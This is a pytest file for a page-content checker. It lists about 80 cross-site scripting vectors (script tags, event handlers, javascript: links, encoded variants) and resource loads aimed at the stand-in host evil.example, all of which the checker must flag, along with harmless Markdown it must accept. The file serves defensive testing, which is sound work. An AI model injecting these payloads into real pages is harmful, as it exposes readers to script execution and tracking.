"""The text of a page may hold what editors need, and nothing that acts on readers or calls other servers."""

from __future__ import annotations

import pytest

from radar.inputs.bodies import faults_of
from radar.inputs.documents import parse_front_matter

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\\<script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=x></frameset>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=a></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea>x</textarea>",
    "<select><option>x</option></select>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<img src='https://evil.example/x.png'>",
    "<img src='//evil.example/x.png'>",
    "<img src='\\\\evil.example/x.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "![x](data:image/png;base64,AAAA)",
    "<video src='https://evil.example/x.mp4'></video>",
    "<video poster='https://evil.example/x.png'></video>",
    "<audio src='https://evil.example/x.mp3'></audio>",
    "<picture><source srcset='https://evil.example/x.png'></picture>",
    "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
    "# Heading { onclick=alert(1) }",
    "text\n{ onmouseover='alert(1)' }",
    "## Heading { style='position:fixed' }",
    "[x](a.md){ onclick=alert(1) }",
    "![x](a.png){ onerror=alert(1) }",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id='__config'>{}</div>",
    "## Heading { #__search }",
    "<div data-block='0'></div>",
    "<div contenteditable>x</div>",
    "<dialog open>x</dialog>",
    "<custom-element>x</custom-element>",
    "<a href='a.md' ping='https://evil.example'>x</a>",
    "<img src='a.png' usemap='#x' onload=alert(1)>",
]
HARMLESS = [
    "Plain text with 5 < 6 and a & b, 3 > 2.",
    "**Bold**, *italic*, `code`, ~~not~~.",
    "# Heading\n\n## Before buying { #before-buying }",
    "## Heading { .note #own-id }",
    "| a | b |\n| --- | ---: |\n| 1 | 2 |",
    "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
    "- one\n- two\n    - three",
    "3. three\n4. four",
    "> quoted",
    "[link](https://example.org/a?b=c&d=e#f)",
    "[link](../dialogues/oslo.md#what)",
    "[mail](mailto:radar@example.org)",
    "[call](tel:+4512345678)",
    "<https://example.org>",
    "[a][1]\n\n[1]: https://example.org 'Title'",
    "![A picture](robot.png)",
    "![A picture](../images/robot.png 'Title')",
    "![A picture](robot.png){ width=300 loading=lazy }",
    "<img src='images/robot.png' alt='A robot' width='300'>",
    "<details><summary>More</summary>\n\nText.\n\n</details>",
    "<details open><summary>More</summary>Text.</details>",
    "<abbr title='Open Document'>ODF</abbr>",
    "*[ODF]: Open Document\n\nODF is open.",
    "H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>marked</mark>",
    "Text[^1]\n\n[^1]: A footnote.",
    "Term\n:   What it means",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>` and `[x](javascript:alert(1))`",
    "Write `<img onerror=…>` never.",
    "<table><caption>A</caption><tr><th scope='col' colspan='2'>x</th></tr></table>",
    "<p lang='da' dir='ltr'>Dansk</p>",
    "<div class='wide' aria-label='Label' role='note' markdown>\n\n**Text**\n\n</div>",
    "<!-- a note to ourselves -->\n\nText.",
    "<ol start='3' reversed><li value='4'>x</li></ol>",
    "<time datetime='2027-01-01'>New year</time>",
    "<video src='robot.mp4' controls><track src='robot.vtt' kind='captions' srclang='da' ></video>",
    "A line<br>break<hr>",
    "!!! note\n    Admonition",
    "&copy; &amp; &lt;script&gt;",
    "{{ not a template }} and {braces}",
]


def page(body: str) -> str:
    return f"---\nname: A\n---\n\nFirst line.\n\n{body}\n"


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile(body: str) -> None:
    """It is a fault, at the line where it begins, and the message quotes nothing of it."""
    found = list(faults_of(parse_front_matter(page(body), "a.md")))
    assert found
    assert all((problem.where.line or 0) >= 4 for problem in found)
    assert all("evil" not in str(problem) and "alert" not in str(problem) for problem in found)


@pytest.mark.parametrize("body", HARMLESS)
def test_harmless(body: str) -> None:
    """It stays."""
    assert [str(problem) for problem in faults_of(parse_front_matter(page(body), "a.md"))] == []


def test_the_line_is_told() -> None:
    """Of each kind of fault, where it stands first."""
    parts = ("One.", "<iframe src=x></iframe>", "![x](https://other.example/x.png)", "<p onclick=x>Two</p>")
    body = "\n\n".join(parts)
    found = list(faults_of(parse_front_matter(page(body), "a.md")))
    assert [problem.where.line for problem in found] == [9, 11, 13]
